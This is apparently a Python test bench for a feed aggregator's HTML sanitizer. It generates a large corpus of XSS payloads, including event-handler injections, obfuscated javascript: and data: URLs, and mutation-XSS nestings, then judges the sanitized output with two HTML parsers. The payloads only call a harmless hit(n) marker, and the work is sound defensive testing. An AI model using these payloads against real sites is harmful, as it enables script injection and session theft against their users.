"""Payloads against the sanitizer: handler x tag x scheme x spelling x nesting, and a judge that shows no mercy.

    python -m bench.xss            judge all payloads after three rounds of serializing and reparsing

The payloads are generated; their kinds are those of the published cheat sheets (OWASP filter evasion, H5SC, mutation XSS).
What a browser does with them is in `xss_browser.py`, the way through a feed in `xss_feeds.py`.
"""

import html
import itertools
import re
import sys
from collections.abc import Iterator
from dataclasses import dataclass

from lxml.html import HtmlElement, HTMLParser, document_fromstring, tostring
from selectolax.lexbor import LexborHTMLParser

from aggregator.text.html import sanitize

CALL = "hit({n})"
_HANDLERS = (
    ("img", "onerror", 'src="x:"'), ("svg", "onload", ""), ("body", "onload", ""), ("input", "onfocus",
    "autofocus"), ("details", "ontoggle", "open"),
    ("video", "onerror", 'src="x:"'), ("audio", "onerror", 'src="x:"'), ("iframe", "onload", 'src="about:blank"'),
    ("object", "onerror", 'data="x:"'),
    ("marquee", "onstart", ""), ("select", "onfocus", "autofocus"), ("textarea", "onfocus", "autofocus"), ("button",
    "onfocus", "autofocus"),
    ("a", "onfocus", 'href="#" autofocus tabindex=1'), ("p", "onmouseover", ""), ("div", "onpointerenter", ""),
    ("b", "onanimationstart", 'style="animation:x"'),
    ("figure", "onclick", 'class="frame"'), ("table", "onscroll", ""), ("amp-img", "onerror", 'src="x:"'),
    ("picture", "onload", ""), ("source", "onerror", 'src="x:"'),
    ("style", "onload", ""), ("link", "onload", 'rel="stylesheet" href="data:,"'), ("form", "onsubmit", ""),
    ("isindex", "onfocus", ""), ("x-y", "onclick", ""),
    ("video", "onloadstart", 'src="x:"'), ("div", "oncontentvisibilityautostatechange",
    'style="display:block;content-visibility:auto"'),
    ("div", "onbeforetoggle", "popover"), ("svg", "onfocusin", "tabindex=1"), ("math", "onclick", ""),
    ("template", "onauxclick", ""), ("dialog", "oncancel", "open"), ("audio", "onplay", 'src="x:" autoplay'),
    ("center", "onwheel", ""), ("main", "ontouchstart", ""), ("li", "onscrollend", ""), ("time", "oncopy", ""),
    ("ins", "onbeforematch", "hidden=until-found"),
)  # fmt: skip
_SPELLINGS = (
    "<{t} {a} {h}={q}>", "<{t} {a} {h}='{q}'>", '<{t} {a} {h}="{q}">', "<{t}/{a}/{h}={q}>",
    "<{t}\n{a}\t{h}\x0c=\x0c{q}>", "<{T} {a} {H}={q}>",
    "<{t} {a} {h} = {q} x=<b>>", "<<{t} {a} {h}={q}>", "<{t} {a} {h}={q}//", "<{t} {a} \x00{h}={q}>",
    '<{t} a="`" {a} {h}={q}>', "<{t} {a} {h}={e}>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{q}", "JaVaScRiPt:{q}", "java\tscript:{q}", "java\nscript:{q}", "\x01javascript:{q}",
    " javascript:{q}", "&#106;avascript:{q}",
    "&#x6A;&#x61;vascript:{q}", "&#0000106avascript:{q}", "javascript&colon;{q}", "java&Tab;script:{q}",
    "java&NewLine;script:{q}", "javascript:/*--></title>*/{q}",
    "vbscript:{q}", "data:text/html,<script>{q}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={q}>",
    "\u3000javascript:{q}", "\xa0javascript:{q}", "\u2028javascript:{q}", "javascript://e.example/%0a{q}",
    "//e.example/\\javascript:{q}", "javascript\x00:{q}",
    "jar:javascript:{q}!/", "view-source:javascript:{q}", "blob:javascript:{q}", "feed:javascript:{q}",
    "livescript:{q}", "javascript:123", "http://javascript:{q}@[",
)  # fmt: skip
_CARRIERS = (
    '<a href="{u}">x</a>', "<a href='{u}'>x</a>", "<a href={u}>x</a>", '<img src="{u}">', '<img srcset="{u} 2x">',
    '<img data-src="{u}">', '<iframe src="{u}"></iframe>',
    '<iframe data-src="{u}" title="x"></iframe>', '<form action="{u}"><input type=submit>',
    '<button formaction="{u}">', '<object data="{u}"></object>', '<embed src="{u}">',
    '<svg><a xlink:href="{u}"><text>x</text></a></svg>', '<math href="{u}">x</math>', '<base href="{u}">',
    '<meta http-equiv=refresh content="0;url={u}">',
    '<link rel=import href="{u}">', '<video poster="{u}"><source src="{u}"></video>',
    '<blockquote cite="{u}">x</blockquote>', '<table background="{u}"><td>x',
    '<div style="background:url({u})">', '<area href="{u}">', '<picture><source srcset="{u}"><img></picture>',
    '<amp-iframe src="{u}"></amp-iframe>',
    '<amp-youtube data-videoid="{u}"></amp-youtube>', '<a title="{u}" href="{u}" ping="{u}" target=_blank>x</a>',
)  # fmt: skip
_WHOLE = (
    "<script>{q}</script>", "<SCRIPT>{q}</SCRIPT>", "<script\n>{q}</script\n>",
    "<scr<script>ipt>{q}</scr</script>ipt>", "<script>{q}", "<script src=//e.example></script>",
    "<svg><script>{q}</script></svg>", "<math><script>{q}</script></math>",
    "<svg><script>&#104;it({n})</script></svg>", "<style>@import'//e.example'</style>",
    "<style><img src=x: onerror={q}></style>", "<noscript><p title='</noscript><img src=x: onerror={q}>'>",
    "<iframe srcdoc='<script>parent.{q}</script>'></iframe>",
    "<iframe><img src=x: onerror={q}></iframe>", "<template><script>{q}</script></template>",
    "<textarea><img src=x: onerror={q}></textarea>",
    "<title><img src=x: onerror={q}></title></title><img src=x: onerror={q}>",
    "<xmp><img src=x: onerror={q}></xmp>", "<plaintext><img src=x: onerror={q}>",
    "<!--><img src=x: onerror={q}>-->", "<!--!><img src=x: onerror={q}>", "<![CDATA[><img src=x: onerror={q}>]]>",
    "<?x ><img src=x: onerror={q}>?>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror={q}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={q}>",
    "<svg></p><style><a id='</style><img src=x: onerror={q}>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x: onerror={q}></style></annotation-xml></math>",
    "<svg><foreignObject><img src=x: onerror={q}></foreignObject></svg>",
    "<svg><animate onbegin={q} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{q}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={q}/>#x'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x: onerror={q}>'>",
    "<table><td><svg><desc><td><img src=x: onerror={q}>",
    "<p id='</p><img src=x: onerror={q}>'>",
    '<a href="x" title="&quot;&gt;&lt;img src=x: onerror={q}&gt;">x</a>',
    "<img alt='`><img src=x: onerror={q}>'>",
    "<figure class='frame'><a href='javascript:{q}'>x</a></figure>",
    "<iframe src='https://www.youtube.com/embed/\"onload={q}'></iframe>",
    "<iframe src='https://e.example/' title='</a><img src=x: onerror={q}>'></iframe>",
    "<img src='https://e.example/\"onerror={q} x=\"'>",
    "<img srcset='https://e.example/a.jpg\"onerror={q} 2x'>", "<xss style='xss:expression({q})'>",
    "<div hidden><img src=x: onerror={q}></div hidden>",
    "&lt;script&gt;{q}&lt;/script&gt;", "<a href='&#1;javascript:{q}'>x", "\ufeff<script>{q}</script>",
    "<image src=x: onerror={q}>", "<keygen autofocus onfocus={q}>",
    "<dialog open onclose={q}>x</dialog>", "<object type=text/x-scriptlet data='//e.example'></object>",
    "<applet code=x></applet>", "<frameset onload={q}>", "<bgsound src=javascript:{q}>",
    "<div><template shadowrootmode=open><img src=x: onerror={q}></template></div>",
    "<script src='data:text/javascript,{q}'></script>", "<script type=module>{q}</script>",
    "<svg><script href='data:text/javascript,{q}'/></svg>", "<iframe src='data:text/html,<script>{q}</script>'></iframe>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAAC' onerror={q} onload={q}>",
    "<svg><style><img src=x: onerror={q}></style></svg>", "<math><mi><style><img src=x: onerror={q}></style></mi></math>",
    "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img src=x: onerror={q}>'>",
    "<svg><title><style><a title='</style></title><img src=x: onerror={q}>'>",
    "<math><mtext></p><table><style><!--</style><img src=x: onerror={q}>--></table>",
    "<noembed><p title='</noembed><img src=x: onerror={q}>'>", "<noframes><p title='</noframes><img src=x: onerror={q}>'>",
    "<video><source onerror={q} src=x:></video>", "<table><caption><svg><title></caption><img src=x: onerror={q}>",
    "<a href=https://e.example/><svg><style>/*</a><img src=x: onerror={q}>*/</style>",
    "<p style='background:url(\"javascript:{q}\")' onclick={q}>x</p>", "<label for=k{n} onclick={q}>x</label><input id=k{n}>",
    "<form id=f{n}></form><button form=f{n} formaction='javascript:{q}'>x</button>",
    "<ruby><rt><svg><foreignObject><p><img src=x: onerror={q}></ruby>", "</p></div></body></html><img src=x: onerror={q}>",
    "<math href='javascript:{q}' xlink:href='javascript:{q}'><mi>x</mi></math>", "<%00script>{q}</script>",
    "<a href='https://e.example/\"onclick=\"{q}'>x</a>", "<img alt='\"onerror={q} x=' src=x:>",
)  # fmt: skip
_PLAIN_SPELLINGS = (1, 2, 5)  # places in _SPELLINGS
_RUNNING_SCHEMES = 12  # the first of _SCHEMES are what browsers take for javascript:
_RUNNING_CARRIERS = (_CARRIERS[0], _CARRIERS[6], _CARRIERS[8], _CARRIERS[12])
_PLAIN_NESTS = ("{p}", "<b><i><a href='https://e.example/'>{p}")
_NESTS = (
    "{p}",
    "<div><p>{p}</p></div>",
    "<table><tr><td>{p}",
    "<svg>{p}",
    "<math><mtext>{p}",
    "<noscript>{p}</noscript>",
    "<b><i><a href='https://e.example/'>{p}",
    "<ul><li>{p}",
    "<picture>{p}",
    "<figure><figcaption>{p}</figcaption></figure>",
    "<select>{p}",
    "<amp-img src=x>{p}",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """The n-th attack: when it runs, it calls hit(n)."""

    number: int
    markup: str
    plain: bool  # spelled and nested as its kind needs it, and nothing more


def payloads() -> Iterator[Payload]:
    """Every payload."""
    for number, (template, plain) in enumerate(_templates()):
        call = CALL.format(n=number)
        coded = "".join(f"&#{ord(letter)};" for letter in call)
        markup = template.replace("{q}", call).replace("{e}", coded).replace("{n}", str(number))
        yield Payload(number=number, markup=markup, plain=plain)


def _templates() -> Iterator[tuple[str, bool]]:
    for (tag, handler, more), (place, spelling) in itertools.product(_HANDLERS, enumerate(_SPELLINGS)):
        names = {"t": tag, "T": tag.upper(), "h": handler, "H": handler.upper(), "a": more, "q": "{q}", "e": "{e}"}
        yield spelling.format(**names), place in _PLAIN_SPELLINGS
    for scheme, carrier in itertools.product(_SCHEMES, _CARRIERS):
        yield carrier.replace("{u}", scheme), scheme in _SCHEMES[:_RUNNING_SCHEMES] and carrier in _RUNNING_CARRIERS
    for whole, nest in itertools.product(_WHOLE, _NESTS):
        yield nest.replace("{p}", whole), nest in _PLAIN_NESTS


# ------------------------------------------------------------------------------------------------------- the judge

_SAFE_TAGS = frozenset(
    """
    html head body a abbr b bdi bdo big blockquote br caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup
    table tbody td tfoot th thead time tr u ul var wbr
    """.split()  # noqa: SIM905 - a table, not code
)
_SAFE_ATTRIBUTES = frozenset(
    """
    alt class colspan datetime dir headers height href lang loading open referrerpolicy rel reversed rowspan scope span src
    start title type value width
    """.split()  # noqa: SIM905
)
_ACTING = frozenset(
    """
    style srcdoc srcset data ping poster background http-equiv content xlink:href manifest codebase classid values
    attributename from to by autofocus popover popovertarget is part
    """.split()  # noqa: SIM905 - a table, not code
)
_STRIPPED = re.compile("[\x00-\x20\x7f-\xa0\u1680\u2000-\u200f\u2028-\u202f\u205f\u2060\u3000\ufeff]")


def faults(shown: str) -> list[str]:
    """What a strict reader objects to in `shown`, after reading it with two parsers and thrice over."""
    found: list[str] = []
    text: str = shown
    for _ in range(3):
        tree = LexborHTMLParser(text)
        for node in tree.root.traverse() if tree.root else ():
            found.extend(_node_faults(node.tag or "", dict(node.attributes)))
        text = (tree.body.html or "") if tree.body else ""
    text = shown
    for _ in range(3):
        root = document_fromstring(f"<div>{text}</div>", parser=HTMLParser(encoding="utf-8"))
        for element in root.iter():
            if isinstance(element, HtmlElement) and isinstance(element.tag, str):
                found.extend(_node_faults(element.tag, {str(key): str(value) for key, value in element.items()}))
        text = str(tostring(root, encoding="unicode"))
    return found


def marks(page: str) -> frozenset[tuple[str, str, str]]:
    """(tag, attribute, value) of everything in a page; of a page without an attack, what `page_faults` lets pass."""
    tree = LexborHTMLParser(page)
    nodes = tree.root.traverse() if tree.root else ()
    return frozenset(
        (node.tag or "", name, value or "") for node in nodes for name, value in {"": "", **node.attributes}.items()
    )


def page_faults(page: str, frame: frozenset[tuple[str, str, str]]) -> list[str]:
    """What a strict reader objects to in a whole page of ours.

    Args:
        frame: `marks` of pages of the same kind that show something harmless: the site's own buttons, styles, links.
    """
    own_tags = {tag for tag, _, _ in frame}
    found: list[str] = []
    for tag, name, value in sorted(marks(page) - frame):
        if not name:
            found.extend([] if tag in own_tags else _node_faults(tag, {}))
        elif name in ("href", "src", "action", "formaction"):
            bare = _STRIPPED.sub("", value).lower()
            if not bare.startswith(("/", "#", "?", "http://", "https://", "mailto:", "tel:")):
                found.append(f"{tag} {name}={bare[:60]}")
        elif name.startswith("on") or name in _ACTING:
            found.append(f"{tag} {name}={value[:60]}")
    return found


def _node_faults(tag: str, attributes: dict[str, str | None]) -> Iterator[str]:
    if tag not in _SAFE_TAGS and not tag.startswith(("-", "#", "_", "!")):
        yield f"<{tag}>"
    for name, value in attributes.items():
        if name not in _SAFE_ATTRIBUTES:
            yield f"{tag} {name}="
        if name in ("href", "src"):
            bare = _STRIPPED.sub("", value or "").lower()
            if not bare.startswith(("http://", "https://", "mailto:", "tel:")):
                yield f"{tag} {name}={bare[:60]}"
        if name == "class" and value != "frame":
            yield f"{tag} class={value}"


def main() -> int:
    count, bad = 0, 0
    for payload in payloads():
        text = payload.markup
        count += 1
        said = faults(sanitize(text, "https://e.example/a/").html) + faults(sanitize(html.unescape(text), None).html)
        if said:
            bad += 1
            print(repr(text[:120]), said[:3])
    print(f"{count} payloads, {bad} with something left")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
